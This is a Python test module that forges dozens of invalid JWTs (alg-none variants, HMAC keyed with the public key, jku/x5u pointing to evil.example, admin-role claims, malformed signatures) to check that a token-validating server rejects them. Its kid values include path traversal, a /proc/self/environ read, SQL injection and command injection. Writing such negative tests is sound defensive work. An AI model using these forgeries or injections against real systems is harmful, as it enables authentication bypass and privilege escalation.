"""Tokens that somebody somewhere has got past a server (RFC 8725), each signed as well as can be: only the forgery is wrong with it."""
import base64
import hashlib
import hmac
import json
import pathlib
import secrets
import time

import jwt
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa, utils
from tokens import BadTokens

P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
P256_PRIME = 0xFFFFFFFF00000001000000000000000000000000FFFFFFFFFFFFFFFFFFFFFFFF
URL_LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"


def encoded(data: bytes | str) -> str:
    return base64.urlsafe_b64encode(data.encode() if isinstance(data, str) else data).decode().rstrip("=")


def raw(signature: bytes, size: int = 32) -> bytes:
    return b"".join(number.to_bytes(size, "big") for number in utils.decode_dss_signature(signature))


class Forger:
    """Has a student's good token and what is public; where a server is not to go by the signature alone, the platform's own key too."""

    def __init__(self, stack, good: str):
        self.base = BadTokens(stack, good)
        self.good, self.head, self.own, self.foreign = good, self.base.head, self.base.own, self.base.foreign
        self.claims = self.base.claims | {"roles": ["admin"]}
        self.keys = pathlib.Path(stack["keys"])
        self.rsa = rsa.generate_private_key(65537, 2048)

    def sign(self, head: str | dict, claims: str | dict, key=None) -> str:
        """ES256 over exactly these texts."""
        text = ".".join(encoded(part if isinstance(part, str) else json.dumps(part)) for part in (head, claims))
        return f"{text}.{encoded(raw((key or self.own).sign(text.encode(), ec.ECDSA(hashes.SHA256()))))}"

    def of(self, **claims) -> str:
        """As the platform would sign it, but for these claims; None takes one out."""
        changed = self.claims | {"jti": secrets.token_hex(8)} | claims
        return self.sign(self.head, {name: value for name, value in changed.items() if value is not None})

    def headed(self, key=None, **head) -> str:
        return self.sign({name: value for name, value in (self.head | head).items() if value is not None}, self.claims, key)

    def mac(self, algorithm: str, digest, secret: bytes) -> str:
        text = f"{encoded(json.dumps(self.head | {'alg': algorithm}))}.{encoded(json.dumps(self.claims))}"
        return f"{text}.{encoded(hmac.new(secret, text.encode(), digest).digest())}"

    def all(self) -> dict[str, str]:
        return self.algorithms() | self.keys_of_its_own() | self.headers() | self.bodies() | self.signatures() | self.texts()

    def algorithms(self) -> dict[str, str]:
        public = self.own.public_key()
        pem = public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
        point = public.public_bytes(serialization.Encoding.X962, serialization.PublicFormat.UncompressedPoint)
        unsigned = {f"alg {alg}, unsigned": f"{encoded(json.dumps(self.head | {'alg': alg}))}.{encoded(json.dumps(self.claims))}."
                    for alg in ("none", "None", "NONE", "nOnE", "")}
        wide = ec.generate_private_key(ec.SECP384R1())
        text = f"{encoded(json.dumps(self.head | {'alg': 'ES384'}))}.{encoded(json.dumps(self.claims))}"
        return unsigned | {
            "alg none, signed": self.headed(alg="none"), "no alg": self.headed(alg=None), "alg es256": self.headed(alg="es256"),
            "alg in a list": self.headed(alg=["ES256"]),
            "HS256 with the public PEM": self.mac("HS256", hashlib.sha256, pem),
            "HS256 with the public PEM, cut": self.mac("HS256", hashlib.sha256, pem.rstrip()),
            "HS256 with the public JWK": self.mac("HS256", hashlib.sha256, json.dumps(self.base.public).encode()),
            "HS256 with the public point": self.mac("HS256", hashlib.sha256, point),
            "HS256 with nothing": self.mac("HS256", hashlib.sha256, b""), "HS512 with the public PEM": self.mac("HS512", hashlib.sha512, pem),
            "RS256 by another": jwt.encode(self.claims, self.rsa, algorithm="RS256", headers=self.head | {"alg": "RS256"}),
            "ES384 of another curve": f"{text}.{encoded(raw(wide.sign(text.encode(), ec.ECDSA(hashes.SHA384())), 48))}",
            "ES256 of another curve": self.headed(ec.generate_private_key(ec.SECP256K1())),
        }

    def keys_of_its_own(self) -> dict[str, str]:
        jwk = json.loads(jwt.algorithms.ECAlgorithm.to_jwk(self.foreign.public_key()))
        course = json.loads((self.keys / "service-courses.jwk").read_text())
        of_service = jwt.algorithms.ECAlgorithm.from_jwk(course)
        return {
            "signed by another key": self.headed(self.foreign), "embedded jwk": self.headed(self.foreign, jwk=jwk),
            "embedded jwk under its name": self.headed(self.foreign, jwk=jwk | {"kid": self.head["kid"]}),
            "jku": self.headed(self.foreign, jku="https://evil.example/jwks.json"),
            "x5u": self.headed(self.foreign, x5u="https://evil.example/c.pem"),
            "x5c": self.headed(self.foreign, x5c=["MIIB"]), "kid traversal": self.headed(self.foreign, kid="../../../../dev/null"),
            "kid of a file": self.headed(self.foreign, kid="/proc/self/environ"),
            "kid SQL": self.headed(self.foreign, kid="x' UNION SELECT 'key' --"),
            "kid of a command": self.headed(self.foreign, kid="key|id"), "kid empty": self.headed(self.foreign, kid=""),
            "kid a number": self.headed(self.foreign, kid=0), "no kid": self.headed(self.foreign, kid=None),
            "kid of 4000 letters": self.headed(self.foreign, kid="k" * 4000),
            "a service's key": self.headed(of_service, kid=course["kid"]), "a service's key under our name": self.headed(of_service),
            "a service's token": self.sign(self.head | {"typ": "service+jwt", "kid": course["kid"]},
                                           self.claims | {"iss": "courses", "sub": "courses", "aud": "users"}, of_service),
        }

    def headers(self) -> dict[str, str]:
        kid, plain = self.head["kid"], f'"kid":"{self.head["kid"]}","typ":"at+jwt"'
        return {
            "typ JWT": self.headed(typ="JWT"), "no typ": self.headed(typ=None), "typ of a service": self.headed(typ="service+jwt"),
            "crit": self.headed(crit=["exp"]), "crit of nothing": self.headed(crit=[]), "b64 false": self.headed(b64=False, crit=["b64"]),
            "zip": self.headed(zip="DEF"), "cty": self.headed(cty="JWT"),
            "alg twice": self.sign(f'{{"alg":"none","alg":"ES256",{plain}}}', self.claims),
            "alg twice, once escaped": self.sign(f'{{"alg":"ES256",{plain},"\\u0061lg":"none"}}', self.claims),
            "kid twice": self.sign(f'{{"alg":"ES256","kid":"other","kid":"{kid}","typ":"at+jwt"}}', self.claims),
            "header a list": self.sign(f'[{{"alg":"ES256",{plain}}}]', self.claims),
            "header cut off": self.sign(f'{{"alg":"ES256",{plain}', self.claims),
        }

    def bodies(self) -> dict[str, str]:
        now = int(time.time())
        text = json.dumps(self.claims)[1:]
        return {
            "expired": self.of(iat=now - 1300, nbf=now - 1300, exp=now - 700),
            "expired just now": self.of(iat=now - 700, nbf=now - 700, exp=now - 61),
            "not yet valid": self.of(nbf=now + 300), "made in the future": self.of(iat=now + 300, nbf=None, exp=now + 900),
            "no exp": self.of(exp=None), "exp a text": self.of(exp=str(now + 600)), "exp far too large": self.of(exp=1e300),
            "no iat": self.of(iat=None),
            "another issuer": self.of(iss="lyceum.evil"), "no issuer": self.of(iss=None), "issuer a list": self.of(iss=["lyceum"]),
            "another audience": self.of(aud="lyceum"), "no audience": self.of(aud=None), "audience of others": self.of(aud=["a", "b"]),
            "no subject": self.of(sub=None), "subject no id": self.of(sub="admin"), "roles a text": self.of(roles="admin"),
            "roles twice": self.sign(self.head, '{"roles":["student"],' + text), "subject twice": self.sign(self.head, '{"sub":"x",' + text),
            "claims a list": self.sign(self.head, f"[{json.dumps(self.claims)}]"), "claims no JSON": self.sign(self.head, "roles=admin"),
            "claims empty": self.sign(self.head, "{}"),
        }

    def signatures(self) -> dict[str, str]:
        text = f"{encoded(json.dumps(self.head))}.{encoded(json.dumps(self.claims))}"
        head, claims, signature = self.good.split(".")
        good = base64.urlsafe_b64decode(signature + "==")
        r, s = int.from_bytes(good[:32], "big"), int.from_bytes(good[32:], "big")
        der = self.own.sign(text.encode(), ec.ECDSA(hashes.SHA256()))

        def numbers(first: int, second: int) -> str:
            return f"{text}.{encoded(first.to_bytes(32, 'big') + second.to_bytes(32, 'big'))}"

        return {
            "altered claims": f"{head}.{encoded(json.dumps(self.claims))}.{signature}", "empty signature": f"{text}.",
            "signature all zero": numbers(0, 0), "signature 0 and 1": numbers(0, 1), "signature 1 and 0": numbers(1, 0),
            "signature of the order": numbers(P256_ORDER, P256_ORDER), "signature of the prime": numbers(P256_PRIME, P256_PRIME),
            "signature past the order": numbers(1, 2**256 - 1), "signature in DER": f"{text}.{encoded(der)}",
            "signature in DER, all zero": f"{text}.{encoded(bytes.fromhex('3006020100020100'))}",
            "signature of other bytes": f"{head}.{claims}.{encoded(raw(self.own.sign(b'other', ec.ECDSA(hashes.SHA256()))))}",
            "signature cut by a byte": f"{head}.{claims}.{encoded(good[:-1])}",
            "signature longer by a byte": f"{head}.{claims}.{encoded(good + bytes(1))}",
            "signature the other way round": f"{head}.{claims}.{encoded(good[32:] + good[:32])}",
            "signature negated in r": f"{head}.{claims}.{encoded(((P256_ORDER - r) % P256_ORDER).to_bytes(32, 'big') + s.to_bytes(32, 'big'))}",
        }

    def texts(self) -> dict[str, str]:
        """The good token, spelled otherwise: two readers could take it for two."""
        head, claims, signature = self.good.split(".")
        # 64 bytes leave four bits of the last letter over: another letter with the same two in front means the same bytes.
        other = URL_LETTERS[URL_LETTERS.index(signature[-1]) ^ 1]
        return {
            "no token": "not.a.token", "dots": "..", "one part": head, "two parts": f"{head}.{claims}",
            "four parts": f"{self.good}.{signature}",
            "five parts": f"{head}..{claims}..{signature}", "padded": self.good + "==", "left-over bits": f"{head}.{claims}.{signature[:-1]}{other}",
            "other alphabet": f"{head}.{claims}.+/{signature[2:]}",
            "in quotes": f'"{self.good}"',
            "as JSON": json.dumps({"payload": claims, "protected": head, "signature": signature}).replace(" ", ""),
            "cut in the claims": f"{head}.{claims[:-8]}.{signature}", "doubled": f"{self.good},{self.good}", "huge": f"{head}.{'A' * 9000}.{signature}",
        }
